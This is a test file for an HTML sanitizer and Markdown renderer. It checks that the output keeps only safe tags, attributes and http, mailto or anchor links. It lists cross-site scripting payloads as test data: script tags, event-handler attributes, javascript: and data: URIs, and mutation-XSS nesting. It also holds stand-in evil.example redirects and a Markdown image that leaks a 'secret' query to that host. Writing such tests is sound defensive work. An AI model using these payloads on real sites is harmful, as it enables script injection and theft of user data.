import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { describe, expect, it } from "vitest";
import { rendered } from "./markdown";
import { sanitized } from "./sanitize";

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example/x">x</a>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<form action="https://evil.example"><button>x</button></form>',
  '<div style="position:fixed;inset:0" onclick="alert(1)">x</div>',
  '<input autofocus onfocus="alert(1)">',
  "<template><script>alert(1)</script></template>",
  '<object data="x"></object><embed src="x"><base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<p class="btn primary composer">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<span data-cite="1" onmouseover=alert(1)>1</span>',
  "<kb-chat data-url=x></kb-chat>",
];
const MARKDOWN = [
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "![x](https://evil.example/?q=secret)",
  "![x][1]\n\n[1]: https://evil.example/pixel.png",
  '<https://example.com/"onclick=alert(1)>',
  "```html\n<script>alert(1)</script>\n```",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  '[x](https://example.com "a\\" onclick=alert(1)")',
];

/** Nothing in it runs, fetches or leads anywhere but the web. */
function expectHarmless(fragment: DocumentFragment): void {
  const allowed = new Set([
    "href",
    "title",
    "class",
    "start",
    "data-cite",
    "data-math",
    "data-display",
    "target",
    "rel",
  ]);
  for (const node of fragment.querySelectorAll("*")) {
    expect(node.tagName).not.toMatch(
      /^(script|style|img|svg|math|iframe|object|embed|form|input|button|base|meta|link|template|kb-.*)$/i,
    );
    for (const { name } of node.attributes) expect(allowed).toContain(name);
    const href = node.getAttribute("href");
    if (href !== null) expect(href).toMatch(/^(https?:\/\/|mailto:|#)/i);
  }
}

describe("hostile HTML", () => {
  it.each(HOSTILE)("is harmless: %s", (html) => expectHarmless(sanitized(html)));
  it("keeps no class of ours", () => {
    const box = document.createElement("div");
    box.append(sanitized('<p class="btn language-js">x</p>'));
    expect(box.innerHTML).toBe('<p class="language-js">x</p>');
  });
});

describe("hostile Markdown", () => {
  it.each([...MARKDOWN, ...HOSTILE])("is harmless: %s", (text) => expectHarmless(rendered(text, { sources: 3 })));
  it("shows HTML as text", () => expect(rendered("<b>x</b>", { sources: 0 }).textContent?.trim()).toBe("<b>x</b>"));
  it("opens links elsewhere", () => {
    const link = rendered("[x](https://example.com)", { sources: 0 }).querySelector("a");
    expect(link?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  });
});

const LISTS = process.env["BENCH_DATA"] ?? resolve(import.meta.dirname, "../../../shared/data");
const FOLDER = join(LISTS, "xss");
const AT_MOST = 150;

describe.skipIf(!existsSync(FOLDER))("published lists of attacks", () => {
  const files = existsSync(FOLDER) ? readdirSync(FOLDER).filter((name) => /\.(txt|json)$/.test(name)) : [];
  it.each(files)("are harmless: %s", (name) => {
    const lines = readFileSync(join(FOLDER, name), "utf8").split("\n").filter(Boolean);
    const step = Math.ceil(lines.length / AT_MOST);
    const some = lines.filter((_line, i) => i % step === 0);
    for (const line of some) {
      expectHarmless(sanitized(line));
      expectHarmless(rendered(line, { sources: 3 }));
    }
  });
});
